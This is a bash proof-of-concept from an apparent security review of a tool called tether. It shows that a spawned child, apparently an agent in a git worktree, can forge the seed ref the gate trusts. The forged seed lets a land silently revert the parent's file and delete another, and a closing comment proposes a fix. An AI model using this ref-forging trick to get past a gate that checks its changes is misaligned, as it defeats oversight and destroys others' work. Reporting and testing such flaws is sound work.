#!/usr/bin/env bash
# Finding 5: gate --worktree takes the child's seed from refs/tether/spawned/<name>, a ref
# in the shared ref store that the child can rewrite with plain git. readSeed only checks
# that the commit is seed-shaped, and anyone can write a seed-shaped commit. With a forged
# base the "child's change" is whatever the child says it is: here, with a base holding
# the parent's post-spawn edit of b.txt and a file notes.txt the parent created while the
# child ran, the land silently reverts b.txt and deletes notes.txt in the parent. Neither
# path was ever touched by the child in its worktree; the gate accepts and lands cleanly.
. "$(dirname "$0")/common.sh"
setup
spawn c1
C=$P/wt/c1
# --- the parent keeps working while the child runs ---
printf 'keep me\nunstaged\nparent edit while child ran\n' > "$P/b.txt"
printf 'parent notes, new since the spawn\n' > "$P/notes.txt"
# --- the child's doing: it never edits b.txt or notes.txt in its worktree ---
BR=$(git -C "$C" rev-parse --abbrev-ref HEAD); NAME=${BR#tether/}
REAL=$(git -C "$C" rev-parse "refs/tether/spawned/$NAME")
HEAD0=$(git -C "$C" rev-parse "$REAL^1"); IDX=$(git -C "$C" rev-parse "$REAL^2^{tree}")
export GIT_INDEX_FILE=$WORK/forge.idx
git -C "$C" read-tree "$REAL^{tree}"
B=$(git -C "$C" hash-object -w "$P/b.txt"); N=$(git -C "$C" hash-object -w "$P/notes.txt")
git -C "$C" update-index --cacheinfo "100644,$B,b.txt" --add --cacheinfo "100644,$N,notes.txt"
T=$(git -C "$C" write-tree); unset GIT_INDEX_FILE
export GIT_AUTHOR_NAME=tether GIT_AUTHOR_EMAIL=tether@localhost GIT_AUTHOR_DATE="@0 +0000"
export GIT_COMMITTER_NAME=tether GIT_COMMITTER_EMAIL=tether@localhost GIT_COMMITTER_DATE="@0 +0000"
IC=$(git -C "$C" commit-tree -p "$HEAD0" -m "tether seed: index" "$IDX")
FORGED=$(git -C "$C" commit-tree -p "$HEAD0" -p "$IC" -m "tether seed: working tree" "$T")
git -C "$C" update-ref "refs/tether/spawned/$NAME" "$FORGED"
# --- the parent lands, claiming what gate observes ---
SEED=$(sed -n "s/^seed: //p" "$WORK/c1.md")   # the parent's own record: the block it sent
(cd "$P" && result b.txt notes.txt | gate --worktree "$C" --seed "$SEED" --land); echo "gate exit: $?"
echo "parent b.txt now:"; cat "$P/b.txt"
echo "parent notes.txt: $(test -e "$P/notes.txt" && echo present || echo DELETED)"
# A fixed tether takes the seed from the parent, not from a ref the child can move: the
# parent already holds it (the v2 block's seed, handshake --json), so gate --worktree
# should require it (e.g. --seed <id>) or check the spawn ref against a record only the
# parent writes; with the true seed the child changed nothing, the land is "nothing", and
# b.txt keeps "parent edit while child ran" and notes.txt stays.
